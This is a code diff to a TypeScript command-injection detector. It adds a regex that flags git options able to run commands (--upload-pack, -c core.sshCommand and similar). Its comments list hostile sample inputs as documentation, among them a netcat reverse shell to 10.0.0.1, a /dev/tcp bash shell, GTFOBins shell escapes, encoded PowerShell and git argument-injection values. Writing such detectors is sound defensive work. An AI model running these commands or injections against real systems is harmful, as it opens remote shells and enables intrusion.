@@ -3,8 +3,9 @@
  * (`cmd /c`, `for /f ... do`, `net user`, `reg add HKLM\...`, `netsh advfirewall`, `powershell -enc`,
  * `certutil -urlcache`), a whole value that is a Unix command line (`uname -a`, `whoami`, `perl -e '...'`,
  * `nc -e /bin/sh 10.0.0.1 4444`), and GTFOBins-style invocations anywhere (`bash -i >& /dev/tcp/...`,
- * `find . -exec /bin/sh \;`, `awk 'BEGIN {system("/bin/sh")}'`, `tar --checkpoint-action=exec=...`), ssh options
- * that run a command (`-oProxyCommand=id`) and command paths spelled with glob wildcards (`/???/??t`).
+ * `find . -exec /bin/sh \;`, `awk 'BEGIN {system("/bin/sh")}'`, `tar --checkpoint-action=exec=...`), ssh and git
+ * options that run a command (`-oProxyCommand=id`, `--upload-pack=id`, `-c core.sshCommand=id`) and command paths
+ * spelled with glob wildcards (`/???/??t`).
  * Used by the cmdi detector; every pattern is a fixed shape with bounded gaps.
  */
 import { CH, mayBeRegexSpace } from './char-classes.js';
@@ -163,6 +164,17 @@ export function startsWithCommandWord(s: string): boolean {
  * value or follows white space, a quote or `=`: `foo-oProxyCommand` is no option, "use the -o flag" names none.
  */
 export const SSH_COMMAND_OPTION = /(?:^|[\s"'=])-o[ \t]{0,4}["']?(?:proxycommand|localcommand|knownhostscommand)[ \t]{0,4}=/;
+
+/**
+ * `--upload-pack=touch /tmp/pwn`, `-c core.sshCommand=id`, `--config=core.sshCommand=id`: git options that run a
+ * command. A value passed to `git clone <value>` or `git ls-remote <value>` is read as an option and git runs its
+ * command (argument injection, no shell separator needed). Like SSH_COMMAND_OPTION, the option starts the value or
+ * follows white space or a quote, and needs its `=`: "use --upload-pack to set the path" names an option, sets none.
+ * `-u <cmd>` (short for `--upload-pack`) is left out: `-u id` is too common in prose. Each part is a literal or one
+ * bounded run of a class the next part cannot start with, so a match is tried once per start and cannot backtrack.
+ */
+export const GIT_COMMAND_OPTION =
+  /(?:^|[\s"'])(?:--(?:upload|receive)-pack[ \t]{0,4}=|(?:-c|--config)[ \t=]{0,5}["']?core\.(?:sshcommand|gitproxy|fsmonitor|hookspath|pager|editor|askpass)[ \t]{0,4}=)/;
 
 /** Characters of a glob-spelled path: letters, digits, `.`, `_`, `-`, the separator `/` and the wildcards `?*[]`. */
 function isGlobPathChar(c: number): boolean {
